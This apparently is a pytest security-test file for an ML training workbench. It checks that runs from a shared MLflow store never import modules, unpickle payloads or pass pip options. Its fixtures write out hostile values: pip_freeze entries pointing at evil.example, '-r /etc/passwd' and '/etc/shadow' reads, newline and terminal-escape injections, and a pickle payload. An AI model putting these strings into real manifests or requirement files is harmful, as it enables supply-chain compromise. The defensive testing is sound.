"""A shared tracking store is data: what a run holds never runs as code.

A run in a team server, a copied store or a colleague's run comes from outside. Each case is
something someone with write access to the store could plant: a checkpoint whose config names
a module for gymnasium to import, a checkpoint whose arrays do not fit the network (hashes
recomputed), pickles in a run's ``model/`` folder, a manifest whose ``pip_freeze`` carries pip
options. A sentinel module (or pickle) that writes a marker file stands for an attacker's code.
"""

from __future__ import annotations

import base64
import json
import os
import pickle
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gymnasium
import numpy as np
import pytest
from mlflow.tracking import MlflowClient
from workbench import cli
from workbench.config import ConfigError
from workbench.deploy import export

from .conftest import copy_store, forget_artifact_locations
from .support.files import Marker, assert_refused_untouched, put_back, rehash
from .trained_run import ExportedPolicy, FinishedRun

CHECKPOINT = "checkpoints/step-000000000384"  # the finished run's last checkpoint


# --------------------------------------------------------------------------- helpers


@pytest.fixture()
def sentinel(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, Path]]:
    """An importable module that writes a marker file when imported: (its name, the mark)."""
    modules, mark = tmp_path / "mods", tmp_path / "SENTINEL-IMPORTED"
    modules.mkdir()
    name = f"wb_sentinel_{tmp_path.name.replace('-', '_')}"
    (modules / f"{name}.py").write_text(f"open({str(mark)!r}, 'w').close()\n")
    monkeypatch.syspath_prepend(str(modules))
    yield name, mark
    sys.modules.pop(name, None)


@pytest.fixture()
def planted(finished_run: FinishedRun, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The finished run's last checkpoint folder, put back as it was after the test."""
    finished_run.use(monkeypatch)
    with put_back(finished_run.artifacts() / CHECKPOINT) as folder:
        yield folder


# --------------------------------------------------------------------------- resume


def test_resume_never_imports_a_module_the_checkpoint_names(
    finished_run: FinishedRun, planted: Path, sentinel: tuple[str, Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    name, mark = sentinel
    text = (planted / "config.yaml").read_text()
    assert "id: HalfCheetah-v5" in text
    (planted / "config.yaml").write_text(text.replace("id: HalfCheetah-v5",
                                                      f"id: {name}:HalfCheetah-v5"))
    rehash(planted)
    resume = f"resume={finished_run.run_id}"
    assert_refused_untouched(
        ["train", resume], finished_run, capsys,
        f"{resume}: the checkpoint's env.id='{name}:HalfCheetah-v5' would import module "
        f"'{name}'", f"add env.id={name}:HalfCheetah-v5 to the command line if you trust")
    assert not mark.exists() and name not in sys.modules, "the store's module was imported"
    # Naming another env.id is no way around it: a resumed run keeps its configuration.
    assert_refused_untouched(["train", resume, "env.id=Hopper-v5"], finished_run, capsys,
                             "env.id: cannot be changed when resuming run")
    assert not mark.exists()
    # The user's own env.id= (the same id) is the explicit choice to import it.
    assert_refused_untouched(["train", resume, f"env.id={name}:HalfCheetah-v5"], finished_run,
                             capsys, "the last checkpoint is at step 384")
    assert mark.exists()


@pytest.mark.parametrize("array", ["/policy/action_net.weight", "/last_obs"])
def test_resume_refuses_a_checkpoint_that_does_not_fit_the_model(
    array: str, finished_run: FinishedRun, planted: Path, capsys: pytest.CaptureFixture[str],
) -> None:
    from safetensors.numpy import load_file, save_file

    arrays = load_file(str(planted / "arrays.safetensors"))
    good = arrays[array]
    arrays[array] = np.zeros((good.shape[0] + 1, *good.shape[1:]), good.dtype)
    save_file(arrays, str(planted / "arrays.safetensors"))
    rehash(planted)
    key = array.lstrip("/")
    assert_refused_untouched(
        ["train", f"resume={finished_run.run_id}", "total_timesteps=512"], finished_run, capsys,
        f"checkpoint {CHECKPOINT} does not fit the run's model: {key} is shape "
        f"{[good.shape[0] + 1, *good.shape[1:]]}, the run's config needs shape {list(good.shape)}")


def test_a_second_resume_of_a_run_is_refused_before_it_writes(
    finished_run: FinishedRun, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from workbench.training.resume import claim_path, find, resume_claim

    finished_run.use(monkeypatch)
    resume = f"resume={finished_run.run_id}"
    # The first resume holds the run's claim while it trains (here: this process, through
    # its own open file, as another process would).
    with resume_claim(find(finished_run.run_id, finished_run.uri)):
        assert_refused_untouched(
            ["train", resume, "total_timesteps=512"], finished_run, capsys,
            f"{resume}: another `workbench train {resume}` on this machine (pid {os.getpid()}) "
            "is continuing this run; wait for it to end")
    assert not claim_path(finished_run.run_id).exists()  # a released claim leaves no file


def test_a_resume_prepared_before_another_one_ended_is_refused(
    finished_run: FinishedRun, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    from workbench.training.resume import find, resume_claim

    uri = copy_store(finished_run.experiments, tmp_path / "experiments")
    monkeypatch.setenv("WORKBENCH_EXPERIMENTS", str(tmp_path / "experiments"))
    try:
        point = find(finished_run.run_id, uri)
        # Another resume continued the run and ended it after this one read it.
        MlflowClient(uri).set_terminated(finished_run.run_id, "FINISHED",
                                         end_time=point.run.info.end_time + 1000)
        with pytest.raises(ConfigError, match=r"the run changed while this resume was prepared "
                                              r"\(another resume of it ran meanwhile; it is "
                                              r"FINISHED now\); resume again"), \
                resume_claim(point):
            pass
    finally:
        forget_artifact_locations()


# --------------------------------------------------------------------------- export --run


@pytest.fixture()
def store_copy(exported_policy: ExportedPolicy, tmp_path: Path) -> tuple[MlflowClient, Path]:
    """A copy of the exported VecNormalize run's store (a store someone else wrote): its
    client and the run's artifact folder."""
    uri = copy_store(exported_policy.experiments, tmp_path / "copy")
    client = MlflowClient(uri)
    artifacts = client.get_run(exported_policy.run_id).info.artifact_uri.removeprefix("file://")
    return client, Path(artifacts)


def test_export_unpickles_nothing_from_the_store(
    exported_policy: ExportedPolicy, store_copy: tuple[MlflowClient, Path], tmp_path: Path,
) -> None:
    client, artifacts = store_copy
    mark = tmp_path / "PICKLE-RAN"
    payload = pickle.dumps(Marker(mark))
    model = artifacts / "model"
    (model / "vecnormalize.pkl").write_bytes(payload)
    with zipfile.ZipFile(model / "model.zip") as src:  # SB3 cloudpickles the data's entries
        items = [(item, src.read(item)) for item in src.infolist()]
    data = json.loads(dict((i.filename, c) for i, c in items)["data"])
    data["lr_schedule"] = {":type:": "<class 'function'>",
                           ":serialized:": base64.b64encode(payload).decode()}
    with zipfile.ZipFile(model / "model.zip", "w") as dst:
        for item, content in items:
            dst.writestr(item, json.dumps(data) if item.filename == "data" else content)

    source = export.load_run(client, exported_policy.run_id, tmp_path / "download")
    assert not mark.exists(), "a pickle from the store was loaded"
    # The policy came from the run's final checkpoint: its weights and VecNormalize statistics.
    assert source.model.num_timesteps == 384 and source.vecnormalize is not None
    assert source.vecnormalize.obs_rms.mean.shape == (17,)
    assert source.vecnormalize.obs_rms.count > 1  # the training statistics, not fresh ones
    obs = np.zeros((4, 17), dtype=np.float32)
    assert np.isfinite(source.deterministic_actions(obs)).all()


def test_export_imports_no_module_the_run_names(
    exported_policy: ExportedPolicy, store_copy: tuple[MlflowClient, Path], tmp_path: Path,
    sentinel: tuple[str, Path],
) -> None:
    client, artifacts = store_copy
    name, mark = sentinel
    (final,) = (artifacts / "checkpoints").iterdir()
    for path in (artifacts / "model" / "config.yaml", final / "config.yaml"):
        path.write_text(path.read_text().replace("id: HalfCheetah-v5",
                                                 f"id: {name}:HalfCheetah-v5"))
    rehash(final)
    with pytest.raises(ConfigError, match=rf"env.id='{name}:HalfCheetah-v5' would import "
                       rf"module '{name}'.*pass --allow-module {name} if you trust"):
        export.load_run(client, exported_policy.run_id, tmp_path / "refused")
    assert not mark.exists() and name not in sys.modules
    export.load_run(client, exported_policy.run_id, tmp_path / "allowed", [name])
    assert mark.exists()  # the user named it: imported


# --------------------------------------------------------------------------- manifest lock


HOSTILE_FREEZE = [
    "numpy==2.1.0", "--index-url https://evil.example/simple", "-e git+https://evil.example/x#egg=x",
    "requests @ https://evil.example/requests.whl", "-r /etc/passwd", "torch==2.13.0+cpu",
    "six==1.16.0 --hash=sha256:0", "gym==0.26.2; python_version>'3'", "evil==1.0\n-r /etc/shadow",
]


def hostile_manifest() -> dict[str, object]:
    """A manifest as a store could hold it: pip options in pip_freeze, line breaks in values."""
    return {
        "created_at": "2030-01-01\n--index-url https://evil.example/created",
        "python": {"version": "3.11.9\n-r /etc/passwd", "implementation": "CPython\r\x1b[2J"},
        "packages": {}, "pip_freeze": HOSTILE_FREEZE,
        "os": {"system": "Linux\n--trusted-host evil.example"},
        "hardware": {"gpus": [{"name": "GPU\u2028-e git+https://evil.example/gpu"}]},
        "cuda": {"torch_cuda": None},
        "git": {"commit": "abc\n--extra-index-url https://evil.example/commit", "dirty": False},
        "run": {},
    }


def live_lines(text: str) -> list[str]:
    """What pip would act on: every line that is not empty or a comment, as pip splits them."""
    return [line for line in text.splitlines() if line.strip() and not line.startswith("#")]


def test_lock_writes_only_pins_and_escapes_every_other_stored_value(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source, out = tmp_path / "manifest.json", tmp_path / "requirements-run.txt"
    source.write_text(json.dumps(hostile_manifest()))
    assert cli.main(["manifest", "lock", str(source), "-o", str(out)]) == 1
    text = out.read_text()
    assert live_lines(text) == [
        "--extra-index-url https://download.pytorch.org/whl/cpu", "numpy==2.1.0",
        "torch==2.13.0+cpu"]
    assert "evil.example" not in "".join(live_lines(text)) and "\x1b" not in text
    assert "# python 3.11.9\\n-r /etc/passwd (CPython\\r\\x1b[2J)" in text
    captured = capsys.readouterr()
    assert captured.out == f"wrote {out}: 2 pinned packages for {source}\n"
    err = captured.err
    assert err.count("\n") == 1, err
    assert err.startswith(f"workbench: manifest lock: left out 7 pip_freeze entries of {source} "
                          "that are not name==version pins: '--index-url https://evil.example"
                          "/simple', '-e git+https://evil.example/x#egg=x', "), err
    assert "'evil==1.0\\\\n-r /etc/shadow'" not in err and "and 2 more" in err, err


# --------------------------------------------------------------------------- Hub bundles


def test_a_bundle_that_fails_verification_is_one_error_line(
    exported_policy: ExportedPolicy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    from workbench.deploy import hub

    exported_policy.use(monkeypatch)
    folder = tmp_path / "bundle"
    hub.write_bundle(MlflowClient(exported_policy.uri), exported_policy.run_id, folder)
    with (folder / "README.md").open("a") as card:
        card.write("\nchanged after publishing\n")
    capsys.readouterr()  # MLflow's download progress while the bundle was written
    assert cli.main(["export", "--bundle", str(folder)]) == 2
    assert capsys.readouterr().err == (
        f"workbench: error: bundle verification failed: {folder}: README.md differs from its "
        "sha256 in bundle.json\n")


# --------------------------------------------------------------------------- plain messages


class Blind(gymnasium.Env):  # type: ignore[type-arg]
    """A task that declares no render mode (a robot without a visual model)."""

    metadata = {"render_modes": []}
    observation_space = gymnasium.spaces.Box(-1.0, 1.0, (3,))
    action_space = gymnasium.spaces.Box(-1.0, 1.0, (1,))

    def reset(self, *, seed: int | None = None, options: dict | None = None
              ) -> tuple[np.ndarray, dict]:
        super().reset(seed=seed)
        return np.zeros(3, dtype=np.float32), {}

    def step(self, action: np.ndarray) -> tuple[np.ndarray, float, bool, bool, dict]:
        return np.zeros(3, dtype=np.float32), 0.0, False, False, {}


def recorder_of(env: gymnasium.Env) -> Any:
    """A run's video recorder after it tried (and failed) to record ``env``."""
    from stable_baselines3.common.vec_env import DummyVecEnv
    from workbench.config import VideoConfig
    from workbench.training.video import VideoRecorder

    venv = DummyVecEnv([lambda: gymnasium.wrappers.TimeLimit(env, 10)])
    recorder = VideoRecorder(VideoConfig(), client=None, run_id="run")

    class Model:
        def predict(self, obs: np.ndarray, deterministic: bool) -> tuple[np.ndarray, None]:
            return np.zeros((len(obs), 1), dtype=np.float32), None

    assert recorder.record(Model(), venv, venv, "replay") is None
    return recorder


@pytest.mark.unit
def test_a_run_of_an_env_without_rendering_does_not_blame_opengl(
    capsys: pytest.CaptureFixture[str],
) -> None:
    recorder = recorder_of(Blind())
    warning = capsys.readouterr().err
    assert warning == ("workbench: warning: no video: Blind has no rendering (its metadata's "
                       "render_modes [] have no rgb_array), so it gives no frames to record; "
                       "the run goes on without video\n")
    assert recorder.summary(1.0) == "none (the env has no rendering, see the warning above)"
    assert "OpenGL" not in warning + recorder.summary(1.0)


class Faulty(Blind):
    """A task whose own render() has a bug."""

    metadata = {"render_modes": ["rgb_array"]}
    render_mode = "rgb_array"

    def render(self) -> np.ndarray:
        return np.zeros((4, 4, 3), np.uint8) / 0 if self.broken() else np.zeros(1)

    def broken(self) -> bool:
        raise KeyError("camera 'head' not in the model")


@pytest.mark.unit
def test_an_exception_in_an_envs_render_is_not_blamed_on_opengl(
    capsys: pytest.CaptureFixture[str],
) -> None:
    recorder = recorder_of(Faulty())
    line = Faulty.broken.__code__.co_firstlineno + 1
    assert capsys.readouterr().err == (
        "workbench: warning: no video: the env's render() raised KeyError: \"camera 'head' not "
        f"in the model\" (at test_security_store.py:{line}), which is not an OpenGL problem: "
        "fix the env's render(), or record no video (video=off); the run goes on without "
        "video\n")
    assert recorder.summary(1.0) == "none (the env's render() failed, see the warning above)"


# What str() of a RayTaskError gives when a point's worker is refused by the team server: Ray's
# coloured header, the remote traceback, the exception line with the HTTP status last.
RAY_401 = (
    "\x1b[36mray::run_point()\x1b[39m (pid=48213, ip=10.0.0.7)\n"
    "  File \"/srv/workbench/lib/workbench/sweeps/point.py\", line 288, in run_point\n"
    "    run = client.create_run(experiment_id, tags=tags)\n"
    "  File \"/srv/workbench/.venv/lib/python3.11/site-packages/mlflow/tracking/client.py\", "
    "line 434, in create_run\n"
    "    return self._tracking_client.create_run(experiment_id, start_time, tags, run_name)\n"
    "  File \"/srv/workbench/.venv/lib/python3.11/site-packages/mlflow/utils/rest_utils.py\", "
    "line 393, in verify_rest_response\n"
    "    raise MlflowException(\n"
    "mlflow.exceptions.MlflowException: API request to endpoint /api/2.0/mlflow/runs/create "
    "failed with error code 401 != 200. Response body: 'You are not authenticated. Please see "
    "https://www.mlflow.org/docs/latest/auth/index.html#authenticating-to-mlflow on how to "
    "authenticate.'"
)


@pytest.mark.unit
def test_a_ray_task_error_keeps_the_refused_login_without_colour_codes() -> None:
    from workbench.sweeps.ray_cluster import task_error

    assert task_error(RAY_401) == (
        "mlflow.exceptions.MlflowException: API request to endpoint /api/2.0/mlflow/runs/create "
        "failed with error code 401 != 200. Response body: 'You are not authenticated. Please "
        "see https://www.mlflow.org/docs/latest/auth/index.html#authenticating-to-mlflow on how "
        "to authenticate.'")
    # Ray's own errors (no remote traceback) keep their first line, colour codes stripped.
    lost = ("\x1b[31mThe worker died unexpectedly while executing this task.\x1b[0m Check "
            "python-core-worker-*.log files for more information.\nRayActorError")
    assert task_error(lost) == ("The worker died unexpectedly while executing this task. Check "
                                "python-core-worker-*.log files for more information.")
    # A message from a node is data: no control character reaches the console or the run's tag.
    assert task_error("OSError: disk \x07full\x1b]0;owned\x07 on node\x9b2J") == (
        "OSError: disk \\x07full on node")
